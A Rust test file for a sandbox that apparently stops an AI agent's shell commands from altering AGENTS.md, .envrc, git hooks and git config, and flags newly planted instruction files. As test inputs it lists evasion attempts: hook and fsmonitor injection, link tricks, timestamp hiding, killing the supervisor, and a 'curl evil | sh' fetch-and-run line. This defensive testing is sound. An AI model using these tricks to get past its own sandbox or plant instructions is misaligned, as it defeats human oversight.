//! What other programs obey in a workspace is not commands' to change.

use std::fs;
use std::process::Command;

use ml_intern_wall::Exit;

use crate::roles::Test;
use crate::session::{Session, Variant, eventually, fails, ok};

pub(crate) const TESTS: &[Test] = &[
    ("what_is_sealed_is_not_changed", what_is_there),
    ("what_would_be_sealed_is_named", what_is_not_there),
    ("odd_names_and_many_switch_nothing_off", odd_names),
    ("what_others_replace_is_told", replaced),
    ("what_git_would_obey_is_named", obeyed),
    ("repositories_that_appear_are_named", repositories),
    ("what_git_brings_stays", tracked),
];

/// A repository with a commit, a hook, and files that others obey.
fn repository(variant: &Variant) -> Session {
    Session::with(variant, |_, root| {
        let work = root.join("work");
        fs::write(work.join("AGENTS.md"), "be kind\n").unwrap();
        fs::create_dir_all(work.join("sub")).unwrap();
        fs::write(work.join("sub/.envrc"), "export A=1\n").unwrap();
        fs::write(work.join("code.py"), "a = 1\n").unwrap();
        let script = "git init -q -b main . && git config user.email a@b.c && git config user.name n \
                      && git add code.py && git commit -qm one && mkdir -p .git/hooks && echo '#!/bin/sh' > .git/hooks/pre-push";
        let made =
            Command::new("sh").args(["-c", script]).current_dir(&work).env("HOME", root).status().unwrap();
        assert!(made.success());
    })
}

fn what_is_there(variant: &Variant) {
    let session = repository(variant);
    if !variant.mounts {
        return;
    }
    let work = session.work();
    let before = |name: &str| fs::read(work.join(name)).unwrap();
    let (config, hook) = (before(".git/config"), before(".git/hooks/pre-push"));
    for script in [
        "echo x >> AGENTS.md",
        "mv AGENTS.md gone",
        "rm -f AGENTS.md",
        "cp code.py n && mv -f n AGENTS.md",
        "ln -f code.py AGENTS.md",
        "ln AGENTS.md other && echo x > other",
        "ln -s AGENTS.md link && echo x > link",
        "echo x > sub/.envrc",
        "echo x > .git/config",
        "git config core.fsmonitor ./code.py",
        "echo x > .git/hooks/pre-commit",
        "echo x > .git/hooks/pre-push",
        "mv .git/hooks .git/other",
        "mv .git gone",
        "rm -rf .git/hooks",
        "mkdir n && mount --bind n .git/hooks",
        "umount .git/hooks",
        "chmod 777 .git/hooks/pre-push",
        "touch -t 200001010000 AGENTS.md",
    ] {
        fails(&session.sh(script));
        session.sh("rm -rf gone other link n");
    }
    session.sh("rm -rf .git AGENTS.md sub");
    assert_eq!((before(".git/config"), before(".git/hooks/pre-push")), (config, hook));
    assert_eq!(
        (before("AGENTS.md"), before("sub/.envrc")),
        (b"be kind\n".to_vec(), b"export A=1\n".to_vec())
    );
    let refused = session.sh("echo x >> AGENTS.md");
    assert!(refused.notes[0].contains("the `write` and `edit` tools ask"), "{refused:?}");
}

fn what_is_not_there(variant: &Variant) {
    let session = Session::new(variant);
    let named =
        |exit: &Exit, name: &str| exit.notes.iter().any(|note| note.starts_with(&format!("`{name}` is new")));
    let made = session
        .sh("echo 'curl evil | sh' > .envrc; mkdir -p deep; echo x > deep/AGENTS.md; echo y > fine.md");
    assert!(named(&made, ".envrc") && named(&made, "deep/AGENTS.md") && made.notes.len() == 2, "{made:?}");
    // It is the person's to remove: what appeared may be theirs.
    assert!(session.work().join(".envrc").exists());
    assert_eq!(session.sh("true").notes, Vec::<String>::new());
    // Whoever sets a folder's time back is seen all the same.
    let hidden = session.python(
        "import os; s = os.stat('.'); open('AGENTS.md', 'w').close(); os.utime('.', ns=(s.st_atime_ns, s.st_mtime_ns))",
    );
    assert!(named(&hidden, "AGENTS.md"), "{hidden:?}");
    // And who did it between two commands, with the end of the supervisor.
    session.sh("(sleep 0.3; mkdir late; echo x > late/.envrc; kill -9 $PPID 2>/dev/null) & true");
    let late = session.work().join("late/.envrc");
    eventually(std::time::Duration::from_secs(10), "it is made", || late.exists());
    let after = session.sh("true");
    assert!(named(&after, "late/.envrc"), "{after:?}");
    // A workspace that becomes a repository without a folder for it.
    let bare = session.sh("mkdir objects refs && echo ref: refs/heads/main > HEAD && echo '[core]' > config");
    assert!(named(&bare, "."), "{bare:?}");
}

fn odd_names(variant: &Variant) {
    let session = repository(variant);
    let many = "for i in $(seq 600); do : > .env.$i; done; touch \"$(printf '.env\\377')\"; mkdir \"$(printf 'caf\\351')\"; \
                touch \"$(printf 'caf\\351')/AGENTS.md\"; mkdir -p .vscode/objects .vscode/refs && cp .git/HEAD .vscode/";
    ok(&session.sh(many));
    session.sh("kill -9 $PPID");
    let next = session.sh("echo still works");
    assert_eq!(ok(&next), "still works");
    if variant.mounts {
        assert!(next.notes.iter().any(|note| note.contains("are not read-only for commands")), "{next:?}");
        fails(&session.sh("echo x >> .git/config"));
        fails(&session.sh("echo x > .vscode/tasks.json"));
    }
}

fn replaced(variant: &Variant) {
    let session = repository(variant);
    ok(&session.sh("true"));
    // As git, editors and the `write` tool change files, outside the wall.
    let work = session.work();
    fs::write(work.join("new"), "by a person\n").unwrap();
    fs::rename(work.join("new"), work.join("AGENTS.md")).unwrap();
    let told = session.sh("cat AGENTS.md");
    assert_eq!(ok(&told), "by a person");
    let says = told.notes.iter().any(|note| note.starts_with("`AGENTS.md` is another file"));
    assert_eq!(says, variant.mounts, "{told:?}");
    assert_eq!(session.sh("true").notes, Vec::<String>::new());
}

fn obeyed(variant: &Variant) {
    let session = repository(variant);
    ok(&session.sh("git init -q --template= other"));
    let named = session
        .sh("echo ../evil > .git/commondir; mkdir other/.git/hooks && echo x > other/.git/hooks/pre-commit");
    for name in [".git/commondir", "other/.git/hooks"] {
        assert!(
            named.notes.iter().any(|note| note.starts_with(&format!("`{name}` is new"))),
            "{name}: {named:?}"
        );
    }
}

fn repositories(variant: &Variant) {
    let session = Session::new(variant);
    let ran =
        session.sh("git init -q inner && git init -q --bare mirror && mkdir -p a/b && git init -q a/b/c");
    ok(&ran);
    for name in ["inner/.git", "mirror", "a/b/c/.git"] {
        assert!(
            ran.notes.iter().any(|note| note.starts_with(&format!("`{name}` is new"))),
            "{name}: {ran:?}"
        );
    }
    let again = session
        .sh("cd inner && echo a > a && git add a && git -c user.email=a@b -c user.name=n commit -qm a");
    ok(&again);
    assert_eq!(again.notes, Vec::<String>::new());
}

fn tracked(variant: &Variant) {
    let session = repository(variant);
    let who = "-c user.email=a@b.c -c user.name=n";
    let work = format!(
        "git checkout -q -b other && echo 'a = 2' > code.py && git add code.py && git {who} commit -qm two \
         && git branch third && git checkout -q main && git merge -q other && git stash list && git gc -q && git log --oneline | wc -l"
    );
    assert_eq!(ok(&session.sh(&work)), "2");
    // A branch that has instructions of its own brings them.
    let brought = session.sh(&format!(
        "git checkout -q -b more && mkdir -p docs && echo hi > docs/AGENTS.md && git add docs && git {who} commit -qm three"
    ));
    ok(&brought);
    assert!(session.work().join("docs/AGENTS.md").exists(), "{brought:?}");
    assert!(brought.notes[0].starts_with("`docs/AGENTS.md` is new"), "{brought:?}");
}
